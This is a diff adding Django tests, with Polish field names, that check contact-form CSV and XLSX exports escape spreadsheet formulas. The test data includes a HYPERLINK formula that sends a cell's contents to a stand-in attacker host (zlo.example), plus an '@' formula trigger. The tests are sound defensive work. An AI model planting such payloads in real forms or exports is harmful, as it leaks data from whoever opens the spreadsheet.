@@ -1,0 +1,49 @@
+"""What a visitor types into the contact form leaves the CSV and XLSX export of the
+messages (Forms → the page) as text: a spreadsheet never runs it as a formula."""
+
+import csv
+import io
+
+import openpyxl
+import pytest
+
+pytestmark = pytest.mark.django_db
+
+NAME = '=HYPERLINK("https://zlo.example/?d="&C2;"Kliknij")'
+MESSAGE = "@SUMA(1;1) -- proszę o kontakt"
+
+
+@pytest.fixture
+def sent(client, contact_page):
+    response = client.post(
+        contact_page.url,
+        {"imie": NAME, "email": "anna@example.org", "wiadomosc": MESSAGE, "zgoda": "on"},
+    )
+    assert response.status_code == 302
+
+
+def download(admin_client, contact_page, export_format):
+    response = admin_client.get(
+        f"/admin/forms/submissions/{contact_page.pk}/?export={export_format}"
+    )
+    assert response.status_code == 200
+    return b"".join(response.streaming_content) if response.streaming else response.content
+
+
+def test_csv_export_of_contact_messages_carries_no_formula(admin_client, contact_page, sent):
+    (row,) = csv.DictReader(io.StringIO(download(admin_client, contact_page, "csv").decode()))
+
+    assert row["Imię i nazwisko"] == "'" + NAME
+    assert row["Wiadomość"] == "'" + MESSAGE
+    assert row["Adres e-mail"] == "anna@example.org"  # ordinary text is left as it is
+
+
+def test_xlsx_export_of_contact_messages_carries_no_formula(admin_client, contact_page, sent):
+    content = download(admin_client, contact_page, "xlsx")
+
+    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
+    headings, row = (list(cells) for cells in sheet.iter_rows(values_only=True))
+    cells = dict(zip(headings, row, strict=True))
+    assert cells["Imię i nazwisko"] == "'" + NAME
+    assert cells["Wiadomość"] == "'" + MESSAGE
+    assert cells["Adres e-mail"] == "anna@example.org"
